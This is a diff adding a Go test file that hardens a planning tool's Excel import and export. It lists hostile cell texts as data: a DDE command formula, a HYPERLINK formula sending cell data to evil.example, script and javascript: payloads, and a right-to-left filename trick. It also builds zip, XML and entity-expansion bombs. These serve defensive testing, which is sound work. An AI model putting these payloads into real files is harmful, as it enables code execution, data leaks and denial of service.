@@ -1,0 +1,301 @@
+package planfile_test
+
+import (
+	"encoding/xml"
+	"errors"
+	"fmt"
+	"io"
+	"math/rand/v2"
+	"runtime"
+	"strings"
+	"testing"
+
+	"github.com/xuri/excelize/v2"
+
+	"stappenplan/assets"
+	"stappenplan/planfile"
+	"stappenplan/steps"
+)
+
+// hostileCells are texts that a spreadsheet might take for something else, with what they are after cleaning.
+var hostileCells = map[string]string{
+	"=1+1": "", "=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")": "", "=cmd|'/c calc'!A0": "", "+32 2 553 98 00": "", "- overleg plannen": "",
+	"@SUM(1;2)": "", "\t=1+1": "", "\r=1+1": "\n=1+1", "＝1+1": "", "'=1+1": "", "1E5": "", "0012": "", "1-2": "", "TRUE": "", "#REF!": "", "WAAR": "",
+	"_x000D_ _x0041_": "", "_x0041_x0042_": "", "_x005F_x0041_ _x005F_": "", "_x_x0041_": "", "_xD83D_": "",
+	"een\r\ntwee\rdrie": "een\ntwee\ndrie", "a\x00b\x07\x0bc": "abc", "\x1b[31mrood\x1b[0m": "rood", "a\uFFFFb\uFFFE": "ab", "factuur\u202egpj.exe": "factuurgpj.exe",
+	"<script>alert(1)</script>": "", "&lt;b&gt; &amp;amp; &#x1b;[31m": "", "https://evil.example/?x=1&y=2": "", "[klik](javascript:alert(1))": "",
+	"👨‍👩‍👧‍👦 gezin 👩🏽‍🏫": "", "Zoe\u0308": "", "مدرسة 24": "", "  blanks  ": "", "a\tb": "", "✓ ☑ ĳ": "", "]]>": "", "{{.School}}": "", "\u200b\u2060": "",
+	strings.Repeat("x", 32_767): "",
+}
+
+// TestHostileTextsStayText: they come back as they went, in cells that hold nothing but text.
+func TestHostileTextsStayText(t *testing.T) {
+	for hostile, clean := range hostileCells {
+		if clean == "" {
+			clean = steps.Clean(hostile)
+		}
+		plan, err := steps.NewPlan(assets.Catalogue()).Apply(steps.NewEntry("x", someDay, "", steps.Change{
+			Kind: steps.ChangeTask, Task: "wifi-management", Note: steps.Set(hostile),
+		}, steps.Change{
+			Kind: steps.ChangeMember, Member: "an", Name: steps.Set("a" + hostile[:min(len(hostile), 150)]), Mandate: steps.Set(hostile),
+		}, steps.Change{
+			Kind: steps.ChangeTask, Task: "own-x", Title: steps.Set("x" + hostile[:min(len(hostile), 150)]), Group: steps.Set("policy"), Owner: steps.Set("an"),
+		}))
+		if err != nil {
+			t.Fatalf("%q: %v", hostile, err)
+		}
+		data := encoded(t, plan, dutch)
+		if changes := decoded(t, data, plan); len(changes) > 0 {
+			t.Errorf("%q reads back with changes: %v", hostile, dutch.Differences(changes, plan))
+		}
+		isText(t, data, clean)
+	}
+}
+
+// isText looks with another reader at the note of the third task: a text, quoted where it might be more.
+func isText(t *testing.T, data []byte, want string) {
+	t.Helper()
+	for name, part := range parts(t, data) {
+		if err := wellFormed(part); err != nil {
+			t.Errorf("%q: %s: %v", want, name, err)
+		}
+		if strings.HasPrefix(name, "xl/worksheets/_rels") && strings.Contains(part, "hyperlink") {
+			t.Errorf("%q makes a link", want)
+		}
+	}
+	f, err := excelize.OpenReader(strings.NewReader(string(data)))
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer f.Close()
+	at := noteCell(t, f)
+	got, _ := f.GetCellValue("Taken", at)
+	formula, _ := f.GetCellFormula("Taken", at)
+	kind, _ := f.GetCellType("Taken", at)
+	overlooked := strings.Contains(want, "_x") // by excelize; ours is read back above
+	if got != want && !overlooked && !steps.Blank(want) || formula != "" || kind != excelize.CellTypeSharedString && !steps.Blank(want) {
+		t.Errorf("%.40q: the cell holds %.40q, formula %q, type %d", want, got, formula, kind)
+	}
+	style, _ := f.GetCellStyle("Taken", at)
+	quoted := f.Styles.CellXfs.Xf[style].QuotePrefix
+	if strings.ContainsAny(want[:1], "=+-@\t'1#0") && (quoted == nil || !*quoted) {
+		t.Errorf("%q becomes something else when it is edited", want)
+	}
+}
+
+// noteCell is where the note of the wifi stands.
+func noteCell(t *testing.T, f *excelize.File) string {
+	t.Helper()
+	rows, err := f.GetRows("Taken")
+	if err != nil {
+		t.Fatal(err)
+	}
+	for k, heading := range rows[2] {
+		for i, row := range rows {
+			if heading == "Notitie" && len(row) > 1 && row[1] == "Wifi beheren" {
+				at, _ := excelize.CoordinatesToCellName(k+1, i+1)
+				return at
+			}
+		}
+	}
+	t.Fatal("there is no note")
+	return ""
+}
+
+func wellFormed(part string) error {
+	for d := xml.NewDecoder(strings.NewReader(part)); ; {
+		if _, err := d.Token(); errors.Is(err, io.EOF) {
+			return nil
+		} else if err != nil {
+			return err
+		}
+	}
+}
+
+// TestTextsLongerThanACell are cut, and reading them back takes nothing away.
+func TestTextsLongerThanACell(t *testing.T) {
+	for _, long := range []string{strings.Repeat("a", 32_768), strings.Repeat("漢", 90_000), strings.Repeat("😀", 20_000)} {
+		plan, err := steps.NewPlan(assets.Catalogue()).Apply(steps.NewEntry("x", someDay, "", steps.Change{
+			Kind: steps.ChangeTask, Task: "wifi-management", Note: steps.Set(long),
+		}))
+		if err != nil {
+			t.Fatal(err)
+		}
+		data := encoded(t, plan, dutch)
+		if changes := decoded(t, data, plan); len(changes) > 0 {
+			t.Errorf("%.6s…: %d changes", long, len(changes))
+		}
+		if text := parts(t, data)["xl/sharedStrings.xml"]; !strings.Contains(text, "…</t>") {
+			t.Errorf("%.6s…: nothing says that it was cut", long)
+		}
+	}
+}
+
+// repeated is a workbook whose sheet, or another part, is a text many times over.
+func repeated(t testing.TB, part, before, text, after string, size int) []byte {
+	t.Helper()
+	files := parts(t, encoded(t, steps.NewPlan(assets.Catalogue()), dutch))
+	files[part] = before + strings.Repeat(text, size/len(text)) + after
+	return zipped(t, files)
+}
+
+// bombs are workbooks that are small and read as something large.
+func bombs(t testing.TB) map[string][]byte {
+	const size = 27_000_000 // a bit more than is unpacked
+	rows := func(format string, n int) string {
+		var b strings.Builder
+		for i := 1; i <= n; i++ {
+			fmt.Fprintf(&b, format, i)
+		}
+		return b.String()
+	}
+	sheet := func(content string) []byte {
+		return repeated(t, tasksSheet, "<worksheet><sheetData>", content, "</sheetData></worksheet>", len(content))
+	}
+	strs := "xl/sharedStrings.xml"
+	return map[string][]byte{
+		"tags":               repeated(t, tasksSheet, "<worksheet><sheetData>", "<c/>", "</sheetData></worksheet>", size/3),
+		"deep":               repeated(t, tasksSheet, "", "<a>", "", size/4),
+		"attributes":         repeated(t, tasksSheet, "<worksheet ", ` a=""`, "/>", size/4),
+		"one attribute":      repeated(t, tasksSheet, `<worksheet a="`, "x", `"/>`, size),
+		"shared texts":       repeated(t, strs, "<sst>", "<si><t/></si>", "</sst>", size/3),
+		"one shared text":    repeated(t, strs, "<sst><si><t>", "_x0041_", "</t></si></sst>", size),
+		"styles":             repeated(t, "xl/styles.xml", "<styleSheet><cellXfs>", "<xf/>", "</cellXfs></styleSheet>", size/4),
+		"entities":           repeated(t, tasksSheet, `<!DOCTYPE a [<!ENTITY b "`, "b", `">]><worksheet>&b;</worksheet>`, size/10),
+		"rows":               sheet(rows(`<row r="%d"><c t="inlineStr"><is><t>Taak</t></is></c></row>`, 100_000)),
+		"columns":            sheet(`<row>` + strings.Repeat(`<c><v>1</v></c>`, 200_000) + `</row>`),
+		"far columns":        sheet(rows(`<row r="%d"><c r="XFD1"><v>1</v></c></row>`, 5000)),
+		"a sheet of comment": repeated(t, tasksSheet, "<worksheet><!--", "x", "--></worksheet>", size),
+		"random":             random(1_000_000),
+	}
+}
+
+func random(n int) []byte {
+	data := make([]byte, n)
+	for i, r := 0, rand.New(rand.NewPCG(1, 2)); i < n; i++ {
+		data[i] = byte(r.Uint32())
+	}
+	return append([]byte("PK\x03\x04"), data...)
+}
+
+// TestBombs: whatever comes in, reading ends, and in little memory.
+func TestBombs(t *testing.T) {
+	plan := steps.NewPlan(assets.Catalogue())
+	for name, data := range bombs(t) {
+		t.Run(name, func(t *testing.T) {
+			var before, after runtime.MemStats
+			runtime.ReadMemStats(&before)
+			_, err := planfile.DecodeWorkbook(data, plan, dutch)
+			runtime.ReadMemStats(&after)
+			if err == nil {
+				t.Error("read without a refusal")
+			}
+			if made := after.TotalAlloc - before.TotalAlloc; made > 200_000_000 { // all that was ever held, and more
+				t.Errorf("takes %d MB", made/1_000_000)
+			}
+		})
+	}
+}
+
+// TestForeignBombs: the same for an overview that others made, where the work is in what stands in it.
+func TestForeignBombs(t *testing.T) {
+	plan := steps.NewPlan(assets.Catalogue())
+	long := func() string { return string(random(2000)[4:]) }
+	rows := [][]any{{"Taak", "Wie"}}
+	for range planfile.MaxForeignRows {
+		rows = append(rows, []any{"toestellen beheren " + fmt.Sprintf("%x", long()), "An"})
+	}
+	f := foreign(t, plan, rows...)
+	if _, err := f.Changes(plan); err == nil || err.(planfile.Errors).Code() != "refused-too-many" {
+		t.Errorf("more own tasks than there can be: %v", err)
+	}
+	rows = append(rows, []any{"een te veel", "An"})
+	if _, err := planfile.ReadForeign(sheetOf(t, rows...), plan, dutch); err == nil || err.(planfile.Errors).Code() != "workbook-too-many-rows" {
+		t.Errorf("too many rows: %v", err)
+	}
+}
+
+// TestOddFiles: each is refused with a sentence of its own.
+func TestOddFiles(t *testing.T) {
+	plan := steps.NewPlan(assets.Catalogue())
+	good := parts(t, encoded(t, plan, dutch))
+	without := func(part string) []byte {
+		files := map[string]string{}
+		for name, text := range good {
+			if name != part {
+				files[name] = text
+			}
+		}
+		return zipped(t, files)
+	}
+	compound := "\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1" + strings.Repeat("\x00", 504)
+	lock := "\x05Excel" + strings.Repeat(" ", 49) + "\x05\x00E\x00x\x00c\x00e\x00l" + strings.Repeat(" \x00", 50)
+	whole := encoded(t, plan, dutch)
+	for name, c := range map[string]struct {
+		data []byte
+		code string
+	}{
+		".xls":              {[]byte(compound), "workbook-old-excel"},
+		"a password":        {[]byte(compound + "E\x00n\x00c\x00r\x00y\x00p\x00t\x00e\x00d\x00P\x00a\x00c\x00k\x00a\x00g\x00e\x00"), "workbook-protected"},
+		".xlsb":             {zipped(t, map[string]string{"xl/workbook.bin": "x", "_rels/.rels": good["_rels/.rels"]}), "workbook-binary"},
+		".ods":              {zipped(t, map[string]string{"mimetype": "application/vnd.oasis.opendocument.spreadsheet", "content.xml": "<a/>"}), "workbook-open-document"},
+		"~$":                {[]byte(lock[:165]), "workbook-lock-file"},
+		".docx":             {zipped(t, map[string]string{"word/document.xml": "<a/>", "_rels/.rels": strings.ReplaceAll(good["_rels/.rels"], "xl/workbook.xml", "word/document.xml")}), "workbook-document"},
+		"a zip file":        {zipped(t, map[string]string{"foto.jpg": "x"}), "workbook-other"},
+		"a missing sheet":   {without(teamSheet), "workbook-sheet-missing"},
+		"no list of sheets": {without("xl/workbook.xml"), "workbook-broken"},
+		"cut off":           {whole[:len(whole)/2], "workbook-broken"},
+		"only PK":           {[]byte("PK not really a workbook"), "workbook-broken"},
+		"broken XML":        {repeated(t, tasksSheet, "<worksheet><sheetData", "<", "", 10), "workbook-broken"},
+		"too large":         {make([]byte, planfile.MaxBytes+1), "planfile-too-large"},
+	} {
+		_, err := planfile.DecodeWorkbook(c.data, plan, dutch)
+		problems, ok := err.(planfile.Errors)
+		if !ok || problems.Code() != c.code {
+			t.Errorf("%s: %v, want %s", name, err, c.code)
+			continue
+		}
+		if said := dutch.Error(problems[0]); strings.Contains(said, "Er ging iets mis") || !strings.HasSuffix(said, ".") {
+			t.Errorf("%s is said as %q", name, said)
+		}
+		if !planfile.IsWorkbook(c.data) && c.code != "planfile-too-large" {
+			t.Errorf("%s is taken for a plan file", name)
+		}
+	}
+}
+
+// TestSheetsThatOnlyHaveALook at the far end are no sheets of a million rows.
+func TestSheetsThatOnlyHaveALook(t *testing.T) {
+	plan := steps.NewPlan(assets.Catalogue())
+	files := parts(t, encoded(t, plan, dutch))
+	files[tasksSheet] = strings.Replace(files[tasksSheet], "</sheetData>", `<row r="1048576" ht="12"><c r="XFD1048576" s="1"/></row></sheetData>`, 1)
+	if changes := decoded(t, zipped(t, files), plan); len(changes) > 0 {
+		t.Errorf("%d changes", len(changes))
+	}
+}
+
+// FuzzDecodeWorkbook changes the sheets at will: reading never panics, and what it gives can be applied.
+func FuzzDecodeWorkbook(f *testing.F) {
+	plan := steps.NewPlan(assets.Catalogue())
+	files := parts(f, encoded(f, plan, dutch))
+	for _, part := range []string{tasksSheet, "xl/sharedStrings.xml", "xl/workbook.xml", "xl/_rels/workbook.xml.rels", "xl/styles.xml"} {
+		f.Add(part, files[part])
+	}
+	f.Fuzz(func(t *testing.T, part, content string) {
+		changed := map[string]string{part: content}
+		for name, text := range files {
+			if name != part {
+				changed[name] = text
+			}
+		}
+		data := zipped(t, changed)
+		if changes, err := planfile.DecodeWorkbook(data, plan, dutch); err == nil {
+			if _, err := plan.Apply(steps.Entry{Changes: changes}); err != nil && len(changes) > 0 {
+				t.Error(err)
+			}
+		}
+		if overview, err := planfile.ReadForeign(data, plan, dutch); err == nil {
+			_, _ = overview.Changes(plan)
+		}
+	})
+}
